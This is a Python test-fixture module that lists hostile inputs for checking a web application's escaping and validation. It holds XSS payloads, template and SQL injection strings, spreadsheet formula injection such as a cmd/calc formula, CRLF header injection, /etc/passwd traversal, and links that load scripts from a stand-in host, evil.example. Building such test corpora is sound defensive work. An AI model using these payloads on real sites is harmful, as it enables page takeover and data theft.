# ruff: noqa: E501, RUF001 - one text a piece, and some are meant to be mistaken.
"""Texts that somebody would write to take a page over; whatever runs sets `window.ran`.

`TEXTS` may be kept and have to be shown as they are; `REFUSED` are no texts at all, and
`ADDRESSES` are no places that a link may lead to.
"""

from itertools import product

RUN = "window.ran=1"
ELSEWHERE = "//evil.example/x"

_BEFORE = (
    "", '">', "'>", "--> ", "]]>", "</p>", "</title>", "</textarea>", "</script>", "</style>",
    "</template>", "</svg>", "</select>", "</noscript>", "<bdi>", "<!--",
)  # fmt: skip
_MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={ELSEWHERE}.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img src={ELSEWHERE}.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href={ELSEWHERE}.svg#x>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<a href=javascript:{RUN} autofocus>here</a>",
)
_LONE = (
    f'" onmouseover="{RUN}" x="', f"' autofocus onfocus='{RUN}' x='", f"x onerror={RUN} ",
    f'" hx-on:load="{RUN}" x="', f'" hx-get="{ELSEWHERE}" hx-trigger="load" x="',
    f'" style="background:url({ELSEWHERE})" x="', '" data-module="govuk-button" x="',
    f"<body onload={RUN}>", f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>", f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url=https:{ELSEWHERE}'>",
    f"<object data={ELSEWHERE}></object>", f"<embed src={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button>Go</button></form>", "<plaintext>", "<xmp>", "<template>",
    "{{7*7}}", "{{ config }}", "{% for x in y %}{{ x }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", "{0.__class__.__mro__}", "{name}", "%(name)s",
    "%s%n%x", "&lt;script&gt;window.ran=1&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E",
    "\\u003cscript\\u003e", "+ADw-script+AD4-", "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1",
    "@SUM(1)", f'=HYPERLINK("https:{ELSEWHERE}","here")', "=IMPORTXML(A1)", "|calc", "%0a=1+1",
    "'; DROP TABLE solution; --", "%_%", "\\' OR 1=1", "a\r\nSet-Cookie: taken=1",
    "a\nBcc: somebody@evil.example", "../../../etc/passwd", "\u202egnp.exe", "\u2066\u202e<b>\u2069",
    "z\u0317\u0316\u032a\u0353\u0348a\u0317\u0316l\u032a\u0353go", "\u200b\u200c\ufeff<script>",
    "اسم المدينة", "\u200fعنوان <b>طويل</b>", "👩‍👩‍👧‍👦 🏙️", "Ｓｃｒｉｐｔ ＜script＞", "ﷺ" * 8,
    "W" * 190, "supercalifragilistic" * 9, "-" * 180, "/" * 180, "NULL", "undefined", "None",
)  # fmt: skip

TEXTS = (*("".join(parts) for parts in product(_BEFORE, _MARKUP)), *_LONE)
FEW = (
    *(f"{before}<img src=x onerror={RUN}>" for before in ('">', "'>", "--> ", "</textarea>")),
    f"</title><svg onload={RUN}>", f"</script><script>{RUN}</script>",
    f"</template><ScRiPt src={ELSEWHERE}.js></sCrIpT>", f"</style><details open ontoggle={RUN}>",
    f'" hx-on:load="{RUN}" hx-get="{ELSEWHERE}" hx-trigger="load" style="background:url({ELSEWHERE})',
    f"x onerror={RUN} ", f"<base href={ELSEWHERE}><link rel=stylesheet href={ELSEWHERE}.css>",
    f"{{{{constructor.constructor('{RUN}')()}}}} %(name)s", "a\nSet-Cookie: taken=1",
    "&lt;script&gt;window.ran=1&lt;/script&gt;", "\u200fعنوان <b>طويل</b>",
)  # fmt: skip
"""Those that differ most in where they break out and in what they bring."""
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "x;=1+1")
REFUSED = ("a\x00b", "\x07", "\x1b[31m", "\ud800", "a" * 2_000_000)
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", "//evil.example/x",
    f'https://a.example/" onclick="{RUN}', "file:///etc/passwd", "http://",
    "https://a b.example/",
)  # fmt: skip


def packed(most: int, start: int) -> str:
    """As many of the texts as fit into `most` characters, from one of them on."""
    found: list[str] = []
    for number in range(len(TEXTS)):
        text = TEXTS[(start + number) % len(TEXTS)]
        if sum(map(len, found)) + len(found) + len(text) > most:
            break
        found.append(text)
    return " ".join(found) or TEXTS[start % len(TEXTS)][:most]
